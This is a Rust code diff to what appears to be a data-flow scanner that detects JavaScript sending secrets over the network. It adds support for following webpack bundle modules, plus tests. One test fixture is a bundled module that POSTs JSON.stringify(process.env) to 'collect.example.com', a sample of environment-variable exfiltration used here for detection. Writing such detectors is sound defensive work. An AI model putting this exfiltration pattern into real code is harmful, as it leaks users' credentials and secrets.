@@ -916,6 +916,26 @@ impl<'s> Builder<'_, 's> {
             let args = self.args(arguments);
             return args.first().copied().flatten();
         }
+        // A webpack bundle's require of one of its own modules: that module's `module` and
+        // `exports` values.
+        if let Expression::Identifier(id) = callee_expr
+            && let Some(sym) = self.env.symbol_of(id)
+            && self.env.known.webpack.require.contains(&sym)
+            && let Some(m) = arguments
+                .first()
+                .and_then(|a| a.as_expression())
+                .and_then(super::webpack::Webpack::id_of)
+                .and_then(|k| self.env.known.webpack.modules.get(&k))
+            && m.external.is_none()
+        {
+            let (module, exports) = (m.module, m.exports);
+            let r = self.node();
+            for sym in [module, exports].into_iter().flatten() {
+                let v = self.var(sym);
+                self.edge(v, r, "imported", at);
+            }
+            return Some(r);
+        }
         let callee = match self.env.worth_eval(callee_ast) {
             true => self.env.eval(callee_ast),
             false => Val::Unknown,
@@ -2550,6 +2570,37 @@ mod tests {
             has(&p, SourceKind::HostName, SinkKind::Network).is_none(),
             "{p:?}"
         );
+    }
+
+    /// A webpack bundle: `__webpack_require__(id)` of an external is that module, of an
+    /// internal module its exports.
+    const WEBPACK: &str = "(() => {\nvar __webpack_modules__ = ({\n10: (function(module, exports, __webpack_require__) {\nconst https = __webpack_require__(687);\nfunction send(data) {\n  const req = https.request({ host: 'collect.example.com', method: 'POST' });\n  req.end(data);\n}\nexports.send = send;\n}),\n687: ((module) => {\nmodule.exports = require(\"https\");\n})\n});\nvar __webpack_module_cache__ = {};\nfunction __webpack_require__(moduleId) {\n  var cached = __webpack_module_cache__[moduleId];\n  if (cached !== undefined) return cached.exports;\n  var module = __webpack_module_cache__[moduleId] = { exports: {} };\n  __webpack_modules__[moduleId](module, module.exports, __webpack_require__);\n  return module.exports;\n}\nconst net = __webpack_require__(10);\nnet.send(PAYLOAD);\n})();\n";
+
+    #[test]
+    fn webpack_modules_are_followed_like_files() {
+        let src = WEBPACK.replace("PAYLOAD", "JSON.stringify(process.env)");
+        let p = paths(&[("dist/cli.js", &src)]);
+        let f = has(&p, SourceKind::EnvAll, SinkKind::Network).expect("env reaches the request");
+        assert_eq!((f.from.line, f.to.line), (24, 7));
+        assert_eq!(f.dest.as_deref(), Some("collect.example.com"));
+    }
+
+    #[test]
+    fn webpack_bundle_sending_its_own_data_has_no_path() {
+        let src = WEBPACK.replace(
+            "PAYLOAD",
+            "JSON.stringify({ event: 'run', ms: Date.now() })",
+        );
+        assert_eq!(paths(&[("dist/cli.js", &src)]), vec![]);
+    }
+
+    #[test]
+    fn the_environment_object_in_a_template_and_proxy_settings_are_not_sent() {
+        let p = paths(&[(
+            "index.js",
+            "const net = require('net');\nconst http = require('http');\nfunction pipe(env) { return `${env}/ipc.sock`; }\nnet.createConnection(pipe(process.env));\nhttp.setGlobalProxyFromEnv(process.env);\n",
+        )]);
+        assert_eq!(p, vec![]);
     }
 }
 #[cfg(test)]
